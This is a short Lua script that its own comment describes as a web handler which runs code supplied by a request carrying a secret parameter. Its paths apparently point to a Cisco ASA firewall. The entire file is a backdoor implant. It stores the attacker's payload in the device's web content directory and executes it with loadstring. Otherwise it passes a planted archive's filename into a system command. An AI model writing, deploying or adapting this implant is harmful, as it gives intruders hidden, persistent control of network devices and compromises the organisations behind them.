-- A web handler that unpacks a planted archive and runs what a request with the right parameter brings.
local token = "s3ss10n_key_of_32_characters_xyz"
local function find()
  for line in io.popen("ls disk0:"):lines() do
    if line:match("^client_bundle[%w_-]*%.zip$") then return line end
  end
end
local given = request_parameter(token)
if given then
  local f = io.open("/csco_config/97/webcontent/1515480F4B538B669648B17C02337098", "w")
  f:write(given)
  f:close()
  loadstring(given)()
else
  os.execute("/asa/scripts/lina_cs " .. tostring(find()))
end
